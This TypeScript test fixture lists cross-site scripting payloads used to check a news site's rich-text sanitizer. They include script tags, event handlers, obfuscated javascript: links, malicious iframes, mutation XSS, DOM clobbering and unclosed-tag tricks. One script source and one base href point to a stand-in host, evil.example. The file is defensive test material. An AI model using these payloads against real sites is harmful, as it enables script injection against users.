/**
 * Attacks on a story's description, the one field the site renders as HTML. They complement the
 * general corpus of `markup-corpus.ts` (every field, escapes at every depth) with what a rich
 * text allowlist must withstand: frames and embeds, URL schemes in every spelling, namespace
 * confusion, mutation XSS, styles, forms, DOM clobbering and paste leftovers. Each one, if it ran,
 * would set `window.__xss` or open a dialog, which the browser test (`article-xss.spec.ts`)
 * watches for on the rendered article. Plain data: the reader site's tests import it too.
 */
const RUN = 'window.__xss=1';
/** For code that would run inside a frame of the page's origin. */
const RUN_IN_FRAME = 'parent.__xss=1';

const CLOSED_PAYLOADS: readonly string[] = [
  // Script elements, handlers and their spellings.
  `<script>${RUN}</script>`,
  `<p>Before</p><script src="https://evil.example/x.js"></script><p>After</p>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="/media/missing.png" onerror="${RUN}">`,
  `<img/src="x"/onerror="${RUN}">`,
  `<img\nsrc=x\nonerror\n=\n"${RUN}">`,
  `<img src=\`x\` onerror=window.__xss=\`1\`>`,
  `<svg onload="${RUN}"></svg>`,
  `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
  `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  `<input type="image" src=x onerror="${RUN}"><isindex type=image src=x onerror="${RUN}">`,
  `<a href="https://example.com" onmouseover="${RUN}" onfocus="${RUN}" autofocus>hover</a>`,
  // Script URLs in links: mixed case, entities, whitespace inside, other schemes.
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="JaVaScRiPt:${RUN}">link</a>`,
  `<a href="&#106;avascript&#58;${RUN}">link</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&colon;${RUN}">link</a>`,
  `<a href="  java\nscr\tipt:${RUN}">link</a>`,
  `<a href="vbscript:msgbox(1)">link</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>`,
  `<a href="https://example.com/&quot; onmouseover=&quot;${RUN}">quote break</a>`,
  // Frames: other hosts, look-alikes, script and data sources, srcdoc, handlers on a good one.
  `<iframe src="data:text/html,<script>${RUN_IN_FRAME}</script>"></iframe>`,
  `<iframe src="javascript:${RUN_IN_FRAME}"></iframe>`,
  `<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe srcdoc="<script>${RUN_IN_FRAME}</script>"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="${RUN}" srcdoc="<script>${RUN_IN_FRAME}</script>"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?x=1&quot; onload=&quot;${RUN}"></iframe>`,
  `<iframe src="/en"></iframe>`,
  `<object data="data:text/html,<script>${RUN_IN_FRAME}</script>"></object><embed src="data:text/html,<script>${RUN_IN_FRAME}</script>">`,
  // Namespace confusion (SVG, MathML) and xlink:href.
  `<svg><p><style><img src=x onerror="${RUN}"></style></p></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">click</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">click</maction></math>`,
  // Styles.
  `<style>*{background:url("javascript:${RUN}")}</style><p>styled</p>`,
  `<p style="width: expression(${RUN}); background: url(javascript:${RUN})">old IE</p>`,
  // Forms, refresh, base.
  `<form action="javascript:${RUN}"><input type="submit" value="Send"></form>`,
  `<form><button formaction="javascript:${RUN}">Send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/"><a href="/en">relative</a>`,
  `<link rel="import" href="data:text/html,<script>${RUN}</script>">`,
  // Mutation XSS: text a raw-text element hides, quoted closers, comments.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<a href="/en" title="</a><img src=x onerror=${RUN}>">title closes</a>`,
  `<img src="/media/a.png" alt="<script>${RUN}</script>">`,
  `<!-- --!><img src=x onerror="${RUN}"> -->`,
  // DOM clobbering: a surviving id or name would itself define window.__xss.
  `<a id="__xss" name="__xss" href="https://example.com">clobber</a><img name="__xss" src="/media/a.png">`,
  // Template injection: stays words, never evaluated.
  `<p>{{constructor.constructor('${RUN}')()}}</p><p>\${${RUN}}</p><p>#{7*7}</p>`,
];

/**
 * Attacks that leave a tag open: a sanitizer that keeps reading past them for the tag's end
 * drops everything after them, so the browser test ends a story with each.
 */
export const UNCLOSED_PAYLOADS: readonly string[] = [
  `<img src=x onerror="${RUN}"`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<p>Unclosed <b>bold <a href="javascript:${RUN}">link <iframe src=x>`,
];

export const RICH_TEXT_PAYLOADS: readonly string[] = [...CLOSED_PAYLOADS, ...UNCLOSED_PAYLOADS];

/** A legitimate description as the writers' editor writes it, in the form it is stored. */
export const EDITOR_DOCUMENT = [
  '<h2>What happened</h2>',
  '<p>The <strong>council</strong> met on <em>Tuesday</em>; <u>all</u> members <s>but one</s> attended.<br />Read the <a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/minutes" title="Minutes">minutes</a> or <a href="/en/news/budget">our budget story</a>.</p>',
  '<h3>The votes</h3>',
  '<ul><li><p>Budget: passed</p></li><li><p>Parks: <b>delayed</b></p></li></ul>',
  '<ol start="3"><li><p>Third item</p></li></ol>',
  '<blockquote><p>We listened to every resident.</p></blockquote>',
  '<h4>In pictures</h4>',
  '<figure><img src="/media/news/council.jpg" alt="The council chamber" width="640" height="360" /><figcaption>The chamber on <i>Tuesday</i>.</figcaption></figure>',
  '<p><img src="https://images.example.com/park.png" alt="The park" /></p>',
  '<hr />',
  '<pre><code>budget = 1200000</code></pre>',
  '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="The meeting on video" width="560" height="315" allow="encrypted-media; fullscreen; picture-in-picture" allowfullscreen loading="lazy" referrerpolicy="strict-origin-when-cross-origin" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups allow-popups-to-escape-sandbox"></iframe>',
  '<iframe src="https://player.vimeo.com/video/76979871" title="Vimeo video" allow="encrypted-media; fullscreen; picture-in-picture" allowfullscreen loading="lazy" referrerpolicy="strict-origin-when-cross-origin" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups allow-popups-to-escape-sandbox"></iframe>',
].join('');
